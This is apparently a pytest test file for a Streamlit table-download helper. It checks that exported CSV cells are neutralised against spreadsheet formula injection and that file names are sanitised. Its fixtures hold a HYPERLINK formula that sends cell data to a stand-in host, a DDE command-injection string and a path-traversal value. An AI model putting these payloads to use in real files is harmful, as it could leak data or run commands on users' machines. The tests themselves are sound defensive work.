"""Tables keep a download of their own now that Streamlit's table export is off app-wide (it wrote cells as live
formulas): the button's CSV neutralises every cell and its file name is safe whatever the corpus is called."""

from __future__ import annotations

import csv
import io
from typing import Any

import pandas as pd
import pytest

from ui import table_download as module
from ui.table_download import table_download, table_file_name

FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"click")'


@pytest.mark.parametrize(("parts", "name"), [
    (("my corpus", "classes"), "my-corpus-classes.csv"),
    (("../../etc", "x/y"), "etc-x-y.csv"),
    (("", "---"), "table.csv"),
    (("pubmed demo", "=cmd|' /C calc'!A0"), "pubmed-demo-cmd-C-calc-A0.csv"),
])
def test_a_table_file_name_holds_only_safe_characters(parts, name):
    assert table_file_name(*parts) == name


def test_the_download_neutralises_formulas_and_is_built_only_when_clicked(monkeypatch):
    seen: dict[str, Any] = {}

    def fake_button(label: str, data: Any, **kwargs: Any) -> bool:
        seen.update(kwargs, label=label, data=data)
        return False

    monkeypatch.setattr(module.st, "download_button", fake_button)
    table_download([{"title": FORMULA, "papers": 3}, {"title": "@SUM(A1:A2)", "papers": 1}], "k", "demo", "jobs")
    assert callable(seen["data"]), "the CSV is built on the click, not on every page run"
    assert seen["file_name"] == "demo-jobs.csv" and seen["on_click"] == "ignore" and not seen["disabled"]
    rows = list(csv.DictReader(io.StringIO(seen["data"]().decode("utf-8"))))
    assert [r["title"] for r in rows] == ["'" + FORMULA, "'@SUM(A1:A2)"]
    assert [r["papers"] for r in rows] == ["3", "1"]


def test_an_empty_table_gets_a_disabled_button(monkeypatch):
    seen: dict[str, Any] = {}
    monkeypatch.setattr(module.st, "download_button", lambda label, data, **kw: seen.update(kw))
    table_download(pd.DataFrame({"a": []}), "k", "x")
    assert seen["disabled"] is True
